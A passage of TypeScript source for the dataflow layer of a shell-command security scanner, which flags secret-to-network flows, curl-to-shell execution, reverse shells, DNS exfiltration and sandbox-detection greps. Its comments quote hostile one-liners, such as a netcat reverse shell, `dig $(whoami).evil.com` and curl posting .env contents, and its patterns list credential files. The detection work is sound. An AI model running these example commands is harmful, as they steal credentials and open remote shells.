// Layer 4 (dataflow): source→sink taint through pipes, redirects and process substitution.
// A secret-bearing source reaching a network sink is exfiltration; network output reaching a
// shell or interpreter is remote code execution (curl | bash), whatever sits in between.
import type { Ctx, SimpleCmd } from "../types";
import { contentOperands, matchPath, READERS } from "./structural";
import { addFinding, feedsOwnRegistryLogin, ownRegistryLoginFeed, redactPreview, REGISTRY_CLIENTS } from "./util";
import { SHELLS, INTERPRETERS } from "../normalize";
import { writtenLanguage } from "../expand";
import { classifyHost } from "../../scan/net";
import { destinationsOf } from "../tenant";

/** Files that are not credentials by path but are sensitive to ship off-box. */
const SOFT_SECRET = /(?:^|\/)(?:[^/]{0,40}(?:secret|passw(?:or)?d|credential|token|private)[^/]{0,40}|[^/]{1,60}\.(?:pem|key|p12|pfx|jks|kdbx|keystore)|CLAUDE\.md|AGENTS\.md|\.mcp\.json|\.cursorrules|\.windsurfrules|\.claude\/[^/]{1,80}|\.cursor\/[^/]{1,80}|\.env(?:\.[a-z]{1,12})?)$/i;
const TOKEN_PRODUCER = /^(?:az account get-access-token|gcloud auth print-(?:access|identity)-token|gh auth token|aws (?:sts get-session-token|ecr get-login-password|configure export-credentials)|vault (?:read|kv get)|op (?:read|item get)|bw get|kubectl get secrets?|security find-(?:generic|internet)-password|secret-tool lookup|pass show|doppler secrets|infisical secrets|sops -d|sops --decrypt)/;
const DNS_TOOLS: ReadonlySet<string> = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "curl", "wget", "nc"]);
/** For URL clients only the host is looked up: `…/tool-$(uname -m).tar.gz` names a file, not a host. */
const URL_TOOLS: ReadonlySet<string> = new Set(["curl", "wget"]);
const SUBST_IN_HOST = /^(?:[a-z][a-z0-9+.-]{0,20}:\/\/)?(?:[^/@\s]{0,200}@)?[^/?#\s]{0,200}(?:\$\(|`)/i;
const PROCESS_OF_INTEREST = /(?:agentshield|crowdstrike|falcon|falco|sentinel|\bedr\b|guardrail|auditd|osquery|wazuh|sysmon|defender|claude|autogpt|crewai|langchain|autogen|openai|anthropic|copilot|cursor|codex|aider)/i;
const SECRET_WORD = /(?:pass(?:word|wd)?|secret|token|api[_-]?key|credential|private|aws_secret|authorization|bearer|cookie|session[_-]?id)/i;

/** Whole homes and /etc: an archive or copy of one carries every credential in it. */
const SENSITIVE_TREE = /^(?:~|~\/\*|~\/\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?|\/home(?:\/[^/.][^/]{0,40})?|\/home\/\*|\/Users(?:\/[^/.][^/]{0,40})?|\/Users\/\*|\/root|\/etc|\/)\/?$/;
const ARCHIVERS: ReadonlySet<string> = new Set(["tar", "gtar", "bsdtar", "zip", "7z", "7za", "7zz", "rar", "cpio", "pax", "ditto", "rsync", "cp"]);
/** Screen, camera, microphone and clipboard readers: what they capture is the user's data. */
const CAPTURE_TOOLS: ReadonlySet<string> = new Set(["screencapture", "import", "xwd", "scrot", "gnome-screenshot", "spectacle", "grim", "maim", "imagesnap", "fswebcam", "arecord", "parecord", "parec", "pw-record", "wf-recorder", "flameshot"]);
const CLIPBOARD_READ = (c: SimpleCmd): boolean => c.exe === "pbpaste" || c.exe === "wl-paste" || (c.exe === "xclip" && c.args.some((a) => a === "-o" || a === "-out")) || (c.exe === "xsel" && c.args.some((a) => /^-(?:o|-output|[a-z]{0,3}o)$/.test(a)));
const isCapture = (c: SimpleCmd): boolean => CAPTURE_TOOLS.has(c.exe) || (c.exe === "ffmpeg" && c.args.some((a, k) => a === "-f" && /^(?:x11grab|avfoundation|gdigrab|kmsgrab|v4l2|video4linux2|alsa|pulse|dshow|pipewire)$/.test(c.args[k + 1] ?? "")));
/** System-description sources whose output, grepped for hypervisor names, detects a sandbox. */
const HW_INFO: ReadonlySet<string> = new Set(["dmidecode", "ioreg", "system_profiler", "lscpu", "lspci", "lsmod", "kldstat", "kextstat", "sysctl", "systemd-detect-virt", "virt-what", "hostnamectl", "lsusb", "lshw", "dmesg"]);
const VM_VENDOR = /virtualbox|vbox|vmware|vmw|parallels|qemu|hyper-?v|bochs|innotek|vmm/i;
/** Memory images: core dumps, heap dumps, raw memory. */
const MEMORY_IMAGE = /(?:\.(?:core|dmp|mdmp|mem|vmem|raw|lime|bin)$|(?:^|\/)core\.[0-9]{1,8}$|^\/proc\/[^/]{1,40}\/mem$|^\/dev\/(?:k?mem|fmem)$)/i;

const HISTORY_FILE = /(?:_history|\/\.history|\/\.zhistory|fish_history)$/;
const SEARCHERS: ReadonlySet<string> = new Set(["grep", "egrep", "fgrep", "zgrep", "rg", "ag", "ack", "awk", "gawk", "sed", "jq"]);
const LOG_PATH = /^(?:\/var\/log\/|\/var\/lib\/docker\/containers\/|\/private\/var\/log\/|\/Library\/Logs\/|~\/Library\/Logs\/)|\.log(?:\.[0-9]{1,3})?(?:\.gz)?$/;
const LOG_READERS: ReadonlySet<string> = new Set(["cat", "zcat", "tail", "head", "less", "more", "strings", "tac", "bzcat", "xzcat"]);

/** Where logs come from: log daemons, container and CI logs, cloud log APIs, log files. */
function isLogSource(c: SimpleCmd): boolean {
  const a0 = c.args[0] ?? "";
  if (c.exe === "journalctl" || c.exe === "dmesg" || c.exe === "stern") return true;
  if ((c.exe === "docker" || c.exe === "podman" || c.exe === "kubectl" || c.exe === "oc" || c.exe === "nerdctl") && (a0 === "logs" || (a0 === "compose" && c.args[1] === "logs"))) return true;
  if (c.exe === "gh" && a0 === "run" && c.args.some((a) => a === "--log" || a === "--log-failed")) return true;
  if (c.exe === "glab" && a0 === "ci" && c.args[1] === "trace") return true;
  if (c.exe === "log" && (a0 === "show" || a0 === "stream")) return true;
  if (c.exe === "aws" && a0 === "logs") return true;
  if (c.exe === "gcloud" && a0 === "logging") return true;
  return LOG_READERS.has(c.exe) && c.args.some((a) => !a.startsWith("-") && LOG_PATH.test(a));
}

const SECRET_MEMO = new WeakMap<SimpleCmd, "hard" | "soft" | "none">();

export function readsSecret(c: SimpleCmd): "hard" | "soft" | undefined {
  let v = SECRET_MEMO.get(c);
  if (v === undefined) { v = readsSecretUncached(c) ?? "none"; SECRET_MEMO.set(c, v); }
  return v === "none" ? undefined : v;
}

function readsSecretUncached(c: SimpleCmd): "hard" | "soft" | undefined {
  const cands = [...(READERS.has(c.exe) ? contentOperands(c) : []), ...c.redirs.filter((r) => r.op === "<").map((r) => r.target)];
  if (cands.some((p) => matchPath(p, "read").some((r) => r.read === "block"))) return "hard";
  if (TOKEN_PRODUCER.test(`${c.exe} ${c.args.slice(0, 4).join(" ")}`)) return "hard";
  if (c.exe === "printenv" || c.exe === "env" || (c.exe === "export" && c.args.includes("-p"))) return "soft";
  if (cands.some((p) => SOFT_SECRET.test(p) || matchPath(p, "read").length > 0)) return "soft";
  if (ARCHIVERS.has(c.exe) && archiveSources(c).some((p) => SENSITIVE_TREE.test(p))) return "soft";
  if (isCapture(c) || CLIPBOARD_READ(c)) return "soft";
  // A database dump is the application's data, users and their credentials included.
  if (isDump(c)) return "soft";
  return undefined;
}

/** A reference to a variable named for a credential (`$GITHUB_TOKEN`, `${AWS_SECRET_ACCESS_KEY}`, `$DB_PASSWORD`). */
const SECRET_ENV_REF = /\$\{?[A-Z0-9_]{0,40}(?:TOKEN|SECRET|SECRET_KEY|PASSWORD|PASSWD|API_?KEY|ACCESS_KEY(?:_ID)?|PRIVATE_KEY|CREDENTIALS?|_PAT)(?:[^A-Za-z0-9_]|$)/;
/** A client that signs in with a secret read from stdin (`docker login --password-stdin`, `gh auth login --with-token`): the secret is used, not sent on. */
const signsInFromStdin = (c: SimpleCmd): boolean =>
  (REGISTRY_CLIENTS.has(c.exe) && c.args.includes("login") && c.args.includes("--password-stdin")) || (c.exe === "gh" && c.args.includes("login") && c.args.includes("--with-token")) || (c.exe === "vault" && c.args[0] === "login" && c.args.includes("-"));

/** Database dump and export tools, and the SQLite/Redis forms that print a whole store. */
const DUMPERS: ReadonlySet<string> = new Set(["pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mysqlpump", "mydumper", "mongodump", "mongoexport", "cockroach", "influxd", "clickhouse-backup"]);
const isDump = (c: SimpleCmd): boolean =>
  DUMPERS.has(c.exe) || (c.exe === "sqlite3" && c.args.some((a) => /^\.(?:dump|backup)\b/.test(a))) || (c.exe === "redis-cli" && c.args.some((a) => a === "--rdb" || /^(?:--scan|keys)$/i.test(a)));

/** Files a sender uploads by name: curl `@F`/`-T F`/`-F k=@F`, wget `--post-file=F`, HTTPie `k@F`, gists, mail attachments, stdin. */
function uploadedFiles(c: SimpleCmd): string[] {
  const out: string[] = [];
  const a = c.args;
  a.forEach((x, k) => {
    const prev = a[k - 1] ?? "";
    if (c.exe === "curl") {
      const at = /^(?:[^=\s@]{0,40}=)?[@<]([^@;\s]{1,300})$/.exec(x);
      if (at?.[1] && at[1] !== "-") out.push(at[1].replace(/;.*$/, ""));
      if (/^(?:-T|--upload-file)$/.test(prev) && x !== "-") out.push(x);
    } else if (c.exe === "wget") {
      const m = /^--(?:post|body)-file=(.{1,300})$/.exec(x);
      if (m?.[1]) out.push(m[1]);
      else if (/^--(?:post|body)-file$/.test(prev)) out.push(x);
    } else if (c.exe === "http" || c.exe === "https" || c.exe === "xh") {
      const m = /^[A-Za-z0-9_.-]{0,40}[@<]([^@\s]{1,300})$/.exec(x);
      if (m?.[1]) out.push(m[1]);
    } else if (c.exe === "swaks" && /^--attach(?:-[a-z]{1,12})?$/.test(prev)) out.push(x.replace(/^@/, ""));
    else if ((c.exe === "mail" || c.exe === "mailx" || c.exe === "mutt") && prev === "-a") out.push(x);
  });
  if (c.exe === "gh" && a[0] === "gist" && a[1] === "create") out.push(...a.slice(2).filter((x) => !x.startsWith("-") && !/^(?:-d|--desc|--description|-f|--filename)$/.test(x)));
  for (const r of c.redirs) if (r.op === "<") out.push(r.target);
  return out;
}
/** Database dumps and backups by name. */
const DUMP_FILE = /(?:^|\/)[^/]{0,60}(?:dump|backup)[^/]{0,60}\.(?:sql|gz|tgz|tar|zip|bak|archive|rdb)$|\.(?:sql|sqlite3?|rdb|bson)(?:\.gz)?$/i;
/** Whether a network sender uploads a file it names that holds secrets or a database. */
const uploadsSensitive = (c: SimpleCmd): boolean => uploadedFiles(c).some((p) => SOFT_SECRET.test(p) || DUMP_FILE.test(p) || matchPath(p, "read").some((r) => r.read !== undefined));

/** Senders the semantic layer does not class as network clients: mail, file transfer, whois. */
const EXTRA_SINKS: ReadonlySet<string> = new Set(["mail", "mailx", "mutt", "sendmail", "swaks", "msmtp", "ssmtp", "ftp", "tftp", "lftp", "ncftpput", "smbclient", "whois", "croc", "ffsend", "wormhole", "megaput", "mega-put", "b2", "mc", "oci", "azcopy"]);
const isNet = (ctx: Ctx, i: number): boolean => (ctx.cmdIntents[i]?.has("network-egress") ?? false) || EXTRA_SINKS.has(ctx.parsed.cmds[i]?.exe ?? "");
/** A shell/interpreter that takes its program from stdin (no script operand). */
const runsStdin = (c: SimpleCmd): boolean => ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe)) && (c.args.every((a) => a.startsWith("-") || a === "/dev/stdin" || a === "/dev/fd/63") || stdinThenArgs(c))) || ((c.exe === "source" || c.exe === ".") && (c.args[0] === "/dev/fd/63" || c.args[0] === "/dev/stdin"));
/** `bash -s -- --prefix /usr/local`, `python3 - arg`: the program is stdin, the words after are its arguments. */
const stdinThenArgs = (c: SimpleCmd): boolean => {
  const k = c.args.findIndex((a) => !a.startsWith("-") || a === "-" || a === "--");
  const before = k < 0 ? c.args : c.args.slice(0, k + 1);
  return SHELLS.has(c.exe) ? before.some((a) => /^-[a-zA-Z]{0,4}s[a-zA-Z]{0,4}$/.test(a)) : c.args[k] === "-";
};

export function dataflow(ctx: Ctx): void {
  const byPipe = new Map<number, number[]>();
  ctx.parsed.cmds.forEach((c, i) => {
    const l = byPipe.get(c.pipe) ?? [];
    l.push(i);
    byPipe.set(c.pipe, l);
  });
  for (const idxs of byPipe.values()) {
    idxs.sort((a, b) => (ctx.parsed.cmds[a]?.stage ?? 0) - (ctx.parsed.cmds[b]?.stage ?? 0));
    let secret: "hard" | "soft" | undefined;
    // A credential-named variable printed into the pipe (`echo "$GITHUB_TOKEN" | base64 | curl …`).
    let envSecret = false;
    let net = false;
    let history = false;
    let logs = false;
    let ps = false;
    let memImage = false;
    let hw = false;
    for (const i of idxs) {
      const c = ctx.parsed.cmds[i] as SimpleCmd;
      const here = readsSecret(c);
      const stdinSoft = here === "soft" && EXTRA_SINKS.has(c.exe) && c.redirs.some((r) => r.op === "<");
      const fromEnv = envSecret && !signsInFromStdin(c);
      // A gist is a network send even though gh is filed with the cloud CLIs; so is a TLS client's stdin.
      const sends = isNet(ctx, i) || (c.exe === "gh" && c.args[0] === "gist") || (c.exe === "openssl" && c.args[0] === "s_client");
      if (sends && (secret !== undefined || here === "hard" || stdinSoft || fromEnv || uploadsSensitive(c)) && ownRegistryLoginFeed(ctx, c) === undefined && !feedsOwnRegistryLogin(ctx, c)) {
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `sensitive data flows into network tool '${redactPreview(c.exe, 16)}'`, cmd: c });
        ctx.intents.add("network-egress");
      }
      if (net && runsStdin(c) && (c.stage > 0 || c.args.includes("/dev/fd/63"))) {
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.download-exec", decision: "block", taxonomy: "unauthorized-execution/remote-code/download-and-execute", description: `network output is executed by '${redactPreview(c.exe, 16)}'`, cmd: c });
        ctx.intents.add("code-execute");
      }
      if ((history || logs) && SEARCHERS.has(c.exe) && c.args.some((a) => SECRET_WORD.test(a)))
        addFinding(ctx, history
          ? { layer: "dataflow", rule_id: "shell.flow.history-secret-grep", decision: "block", taxonomy: "credential-exposure/history-mining/history-credential-grep", description: "shell history searched for secrets", cmd: c }
          : { layer: "dataflow", rule_id: "shell.flow.log-secret-grep", decision: "block", taxonomy: "credential-exposure/history-mining/log-credential-grep", description: "logs searched for secrets", cmd: c });
      if (c.exe === "history" || c.args.some((a) => HISTORY_FILE.test(a)) || (c.exe === "git" && /^(?:log|show|diff|reflog)$/.test(c.args[0] ?? "") && c.args.some((a) => a === "-p" || a === "--patch" || a === "--all"))) history = true;
      if (isLogSource(c)) logs = true;
      if (ps && (c.exe === "grep" || c.exe === "egrep" || c.exe === "rg") && c.args.some((a) => PROCESS_OF_INTEREST.test(a)))
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.process-discovery", decision: "audit", taxonomy: "reconnaissance/system-discovery/process-enumeration", description: "process list searched for security tools or AI agents", cmd: c });
      if (c.exe === "ps" || c.exe === "top" || c.exe === "htop") ps = true;
      if (memImage && (c.exe === "grep" || c.exe === "egrep" || c.exe === "rg") && c.args.some((a) => SECRET_WORD.test(a) || /^-?(?:pass|pwd|BEGIN)/i.test(a)))
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.memory-secret-grep", decision: "block", taxonomy: "credential-exposure/process-credential/process-memory-dump", description: "a memory image is searched for passwords or keys", cmd: c });
      if ((c.exe === "strings" || c.exe === "cat" || c.exe === "xxd" || c.exe === "hexdump" || c.exe === "od") && c.args.some((a) => MEMORY_IMAGE.test(a))) memImage = true;
      if (hw && (c.exe === "grep" || c.exe === "egrep" || c.exe === "rg") && c.args.some((a) => VM_VENDOR.test(a)))
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.vm-detection", decision: "audit", taxonomy: "reconnaissance/system-discovery/sandbox-detection", description: "hardware details searched for hypervisor names (sandbox detection)", cmd: c });
      if (HW_INFO.has(c.exe) || (c.args.some((a) => /^\/(?:sys\/class\/dmi\/id\/|proc\/(?:scsi\/scsi|modules|cpuinfo)$)/.test(a)))) hw = true;
      if (here !== undefined && (secret === undefined || here === "hard")) secret = here;
      if ((c.exe === "echo" || c.exe === "printf" || c.exe === "printenv") && c.args.some((a) => SECRET_ENV_REF.test(c.exe === "printenv" ? `$${a}` : a))) envSecret = true;
      if (isNet(ctx, i)) net = true;
    }
  }
  // `cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f`: an interactive shell wired to the network.
  for (const idxs of byPipe.values()) {
    const shell = idxs.find((i) => { const c = ctx.parsed.cmds[i] as SimpleCmd; return SHELLS.has(c.exe) && c.args.some((a) => /^-[a-z]{0,4}i/.test(a)); });
    const net = idxs.find((i) => isNet(ctx, i));
    if (shell !== undefined && net !== undefined)
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.shell-to-network", decision: "block", taxonomy: "unauthorized-execution/remote-code/reverse-shell", description: "interactive shell piped to a network tool", cmd: ctx.parsed.cmds[shell] as SimpleCmd });
  }
  // `curl -d "$(cat .env)" …`, `wget --post-data="$(env)"`: a substitution feeding a network
  // command's arguments carries whatever it read. `dig $(whoami).evil.com`: data in DNS names.
  ctx.parsed.cmds.forEach((net, i) => {
    if (!isNet(ctx, i)) return;
    const inner = ctx.parsed.cmds.filter((c) => c.depth > net.depth && c.via.includes("$()") && c.span.start >= net.span.start && c.span.end <= net.span.end);
    if (inner.some((c) => readsSecret(c) !== undefined))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `command output with secrets is sent by '${redactPreview(net.exe, 16)}'`, cmd: net });
    if (DNS_TOOLS.has(net.exe) && net.dynamicArgs && (net.args.some((a) => (/\$\(|`/.test(a) && (URL_TOOLS.has(net.exe) ? SUBST_IN_HOST.test(a) : /\.[a-z]{2,}/i.test(a))) || /\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?\.[A-Za-z0-9-]{1,63}\.[A-Za-z]{2,}/.test(a)) || (net.exe.startsWith("ping") && net.args.some((a, k) => a === "-p" && /\$/.test(net.args[k + 1] ?? "")))))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.dns-exfil", decision: "block", taxonomy: "data-exfiltration/covert-channel/dns-exfiltration", description: "command output encoded into a DNS query", cmd: net });
  });
  taintedVariables(ctx);
  codeFlows(ctx);
  repoToAddress(ctx, byPipe);
  stagedSecrets(ctx, byPipe);
  lateral(ctx);
  // `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `python3 -c "$(curl …)"`.
  for (const c of ctx.parsed.cmds) {
    if ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "eval" || c.exe === "source" || c.exe === ".") && [...c.args, c.script ?? ""].some((a) => /\$\((?:[^)]{0,40}\/)?(?:curl|wget|fetch)\b|`(?:curl|wget)\b|<\(\s{0,4}(?:curl|wget)\b/.test(a)))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.download-exec", decision: "block", taxonomy: "unauthorized-execution/remote-code/download-and-execute", description: `downloaded content is executed by '${redactPreview(c.exe, 16)}'`, cmd: c });
  }
}

/** Files written by a pipeline: redirect targets, tee operands and archiver/copier outputs. */
function pipelineWrites(ctx: Ctx, idxs: readonly number[]): string[] {
  const out: string[] = [];
  for (const i of idxs) {
    const c = ctx.parsed.cmds[i] as SimpleCmd;
    for (const r of c.redirs) if (r.op === ">" || r.op === ">>" || r.op === ">|" || r.op === "&>" || r.op === "&>>") out.push(r.target);
    if (c.exe === "tee") for (const a of c.args) if (!a.startsWith("-")) out.push(a);
    const o = archiveOutput(c);
    if (o !== undefined) out.push(o);
  }
  return out.filter((t) => t.length > 0 && !/^\d+$/.test(t) && !t.startsWith("/dev/") && t !== "-");
}

/** Does a command name this file (operand, @file, --opt=file, stdin redirect, or a directory holding it)? */
const names = (c: SimpleCmd, file: string): boolean => [...c.args, ...c.redirs.filter((r) => r.op === "<").map((r) => r.target)].some((a) => a === file || a.endsWith(`@${file}`) || a.endsWith(`=${file}`) || a.endsWith(`=@${file}`) || (file.startsWith(a.endsWith("/") ? a : `${a}/`) && a.length > 4 && a.startsWith("/")));

// The repository's content (a diff, a patch, an archive of the working tree) sent to a bare
// public IP address: teams publish code to named hosts they own; an address with no name is a drop.
const REPO_READERS = (c: SimpleCmd): boolean =>
  (c.exe === "git" && /^(?:diff|show|log|format-patch|archive|bundle|ls-files)$/.test(c.args[0] ?? "")) ||
  ((c.exe === "tar" || c.exe === "zip" || c.exe === "7z") && c.args.some((a) => /^(?:\.|\.\/|src\/?|\$PWD|\$\(pwd\))$/.test(a)));
/** Raw-socket clients, whose address is a bare operand (the tenant module's reading takes their port for it). */
const RAW_SOCKET: ReadonlySet<string> = new Set(["nc", "ncat", "netcat", "telnet"]);
/** Whether a sender names a public IP address as a destination (URL, `user@host:`, or a raw socket's operand). */
const toPublicAddress = (c: SimpleCmd): boolean =>
  [...(destinationsOf(c) ?? []), ...(RAW_SOCKET.has(c.exe) ? c.args.filter((a) => /^[0-9.]{7,15}$/.test(a)) : [])]
    .map((h) => h.replace(/^\[|\]$/g, ""))
    .some((h) => /^[0-9.]{7,15}$|:/.test(h) && classifyHost(h).cls === "public");

function repoToAddress(ctx: Ctx, byPipe: Map<number, number[]>): void {
  const staged = new Set<string>();
  for (const idxs of byPipe.values()) {
    if (!idxs.some((i) => REPO_READERS(ctx.parsed.cmds[i] as SimpleCmd))) continue;
    const cmds = idxs.map((i) => ctx.parsed.cmds[i] as SimpleCmd).sort((a, b) => a.stage - b.stage);
    const from = cmds.findIndex(REPO_READERS);
    if (from < 0) continue;
    for (const c of cmds.slice(from + 1)) if (toPublicAddress(c)) addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.repo-to-address", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `repository content sent to a bare address by '${redactPreview(c.exe, 16)}'`, cmd: c });
    for (const f of pipelineWrites(ctx, idxs)) staged.add(f);
  }
  if (staged.size === 0) return;
  ctx.parsed.cmds.forEach((c) => {
    if (toPublicAddress(c) && [...staged].some((f) => names(c, f))) addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.repo-to-address", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `an archive of the repository is sent to a bare address by '${redactPreview(c.exe, 16)}'`, cmd: c });
  });
}

// Inline interpreter code that does in one process what a pipeline would: read the environment
// or a sensitive file and send it (`urlopen(url, json.dumps(dict(os.environ)))`, a DNS lookup per
// chunk of /etc/passwd), or wire a shell to a socket (`spawn('/bin/sh')` + `net.connect`).
const CODE_SEND = /\burlopen\b|urllib\.request|\brequests\.(?:post|put|patch|get)\b|http\.client|\bhttpx\.|\bsocket\.(?:socket|create_connection)|gethostbyname|getaddrinfo|dns\.resolver|\bfetch\s{0,2}\(|\bhttps?\.(?:request|get)\s{0,2}\(|\bnet\.(?:connect|createConnection|Socket)\b|\bdgram\b|\bdns\.(?:lookup|resolve)|LWP::UserAgent|HTTP::Tiny|IO::Socket|Net::(?:HTTP|DNS|SMTP)|\bTCPSocket\b|\bUDPSocket\b|Net::HTTP\.post|\bResolv\b|open-uri|\bURI\.open\b|smtplib|ftplib/;
const CODE_ENV_DUMP = /\bdict\(\s{0,3}os\.environ\s{0,3}\)|os\.environ\.(?:items|copy)\(\)|(?:dumps|str|repr)\(\s{0,3}os\.environ\b|json\.dumps\(\s{0,3}dict\(\s{0,3}os\.environ|JSON\.stringify\(\s{0,3}process\.env\s{0,3}[,)]|Object\.(?:entries|keys|values|assign)\(\s{0,3}(?:\{\s{0,3}\}\s{0,3},\s{0,3})?process\.env\s{0,3}\)|%ENV\b|\bENV\.(?:to_h|to_a|inspect|each)\b/;
const CODE_SECRET_FILE = /\/etc\/(?:passwd|shadow|sudoers)\b|\.ssh\/(?:id_[a-z0-9_]{2,20}|authorized_keys|config)|\.aws\/credentials|\.kube\/config|\.git-credentials|\.netrc|\.npmrc|\.pypirc|\.docker\/config\.json|_history\b|(?:^|['"\/])\.env(?:\.[a-z]{1,12})?['"]|Login Data|\.gnupg\//;
const CODE_SHELL = /(?:spawn|exec|execSync|execFile|popen|Popen|call|run|system|pty\.spawn|Open3\.[a-z]{1,10}|IO\.popen)\s{0,2}\(\s{0,3}\[?\s{0,3}['"](?:\/bin\/)?(?:ba|z|da)?sh['"]|pty\.spawn|\bexec\s{1,3}['"]?\/bin\/(?:ba)?sh\b|\bexec\s{0,2}\(\s{0,2}['"]\/bin\/(?:ba)?sh/;
const CODE_CONNECT = /\.connect\s{0,2}\(|require\(\s{0,2}['"](?:node:)?net['"]\s{0,2}\)|net\.(?:connect|createConnection)|TCPSocket\.(?:new|open)|IO::Socket::INET|socket\.create_connection|fsockopen|new\s{1,3}Socket\s{0,2}\(/;

function codeFlows(ctx: Ctx): void {
  for (const c of ctx.parsed.cmds) {
    // Inline code, or a program written out by a heredoc (`cat > /tmp/x.py <<'EOF'`).
    const written = (c.exe === "cat" || c.exe === "tee") && c.heredoc !== undefined && writtenLanguage([...c.redirs.map((r) => r.target), ...c.args], c.heredoc) !== undefined;
    if (!written && (!INTERPRETERS.has(c.exe) || (c.args.length === 0 && c.heredoc === undefined))) continue;
    const code = (written ? c.heredoc ?? "" : [...c.args, c.heredoc ?? ""].join("\n")).slice(0, 65536);
    if (CODE_SEND.test(code) && (CODE_ENV_DUMP.test(code) || CODE_SECRET_FILE.test(code)))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.code-secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `inline ${redactPreview(c.exe, 10)} code reads the environment or a sensitive file and sends it`, cmd: c });
    if (CODE_SHELL.test(code) && CODE_CONNECT.test(code))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.code-reverse-shell", decision: "block", taxonomy: "unauthorized-execution/remote-code/reverse-shell", description: `inline ${redactPreview(c.exe, 10)} code connects a shell to a socket`, cmd: c });
  }
}

/**
 * Secrets staged in a file and sent later in the same script: `env > /tmp/e; nc host 4444 <
 * /tmp/e`, `cat .env | base64 > /tmp/x && wget --post-file=/tmp/x …`, `tar czf /tmp/h.tgz ~;
 * openssl enc -in /tmp/h.tgz -out /tmp/h.enc; curl -T /tmp/h.enc …`. A pipeline that reads a
 * secret (hard or soft) or an already tainted file taints what it writes; a later network
 * command that names a tainted file is exfiltration.
 */
function stagedSecrets(ctx: Ctx, byPipe: Map<number, number[]>): void {
  const tainted: { file: string; pipe: number }[] = [];
  const pipes = [...byPipe.entries()].sort((a, b) => (ctx.parsed.cmds[a[1][0] as number]?.span.start ?? 0) - (ctx.parsed.cmds[b[1][0] as number]?.span.start ?? 0));
  for (const [pipe, idxs] of pipes) {
    const reads = idxs.some((i) => { const c = ctx.parsed.cmds[i] as SimpleCmd; return readsSecret(c) !== undefined || tainted.some((t) => t.pipe !== pipe && names(c, t.file)); });
    if (!reads) continue;
    for (const f of pipelineWrites(ctx, idxs)) tainted.push({ file: f, pipe });
  }
  if (tainted.length === 0) return;
  ctx.parsed.cmds.forEach((c, i) => {
    if (!isNet(ctx, i)) return;
    const hit = tainted.find((t) => t.pipe !== c.pipe && names(c, t.file));
    if (hit !== undefined)
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.staged-secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `a file holding sensitive data is sent by '${redactPreview(c.exe, 16)}'`, cmd: c });
  });
}

/**
 * `K=$(cat ~/.aws/credentials); curl -d "$K" …`: a variable assigned from a secret-reading
 * substitution carries it into any later network command that expands the variable.
 */
function taintedVariables(ctx: Ctx): void {
  const cmds = ctx.parsed.cmds;
  const vars = new Set<string>();
  if (!cmds.some((c) => c.assigns.length > 0 && c.via.length === 0 && ctx.parsed.source.includes("$("))) return;
  cmds.forEach((c, i) => {
    if (c.assigns.length > 0 && (c.exe === "" || c.exe === "export" || c.exe === "local" || c.exe === "declare" || c.exe === "readonly")) {
      const inner = cmds.filter((x) => x.depth > c.depth && x.via.includes("$()") && x.span.start >= c.span.start && x.span.end <= c.span.end);
      if (inner.some((x) => readsSecret(x) !== undefined)) for (const a of c.assigns) vars.add(a.name);
    }
    if (vars.size === 0 || !isNet(ctx, i)) return;
    const text = ctx.parsed.source.slice(c.span.start, c.span.end);
    for (const v of vars)
      if (new RegExp(`\\$\\{?${v}\\b`).test(text)) {
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `a variable holding sensitive data is sent by '${redactPreview(c.exe, 16)}'`, cmd: c });
        return;
      }
  });
}

/** What an archiver or copier reads: every operand but its output. */
function archiveSources(c: SimpleCmd): string[] {
  const ops = c.args.filter((a) => !a.startsWith("-"));
  if (c.exe === "cp" || c.exe === "rsync" || c.exe === "ditto") return ops.slice(0, -1);
  const out = archiveOutput(c);
  return ops.filter((a) => a !== out && !/^[a-z]{1,4}$/.test(a));
}

/** The file an archiver, encrypter, copier or capture tool writes (not through a redirect). */
function archiveOutput(c: SimpleCmd): string | undefined {
  const a = c.args;
  const after = (...flags: string[]): string | undefined => { for (let k = 0; k < a.length; k++) { const x = a[k] ?? ""; for (const f of flags) { if (x === f) return a[k + 1]; if (f.startsWith("--") && x.startsWith(`${f}=`)) return x.slice(f.length + 1); } } return undefined; };
  switch (c.exe) {
    case "tar": case "gtar": case "bsdtar": {
      const f = after("-f", "--file");
      if (f !== undefined) return f;
      // `tar czf out.tgz …` and `tar -czvf out.tgz …`: the f in a bundled flag word takes the next word.
      const k = a.findIndex((x) => /^-?[a-zA-Z]{0,8}f$/.test(x) && /c/.test(x));
      return k >= 0 ? a[k + 1] : undefined;
    }
    case "zip": return a.find((x) => !x.startsWith("-"));
    case "7z": case "7za": case "7zz": case "rar": return a[0] === "a" ? a.find((x, k) => k > 0 && !x.startsWith("-")) : undefined;
    case "openssl": case "gpg": case "age": return after("-out", "-o", "--output");
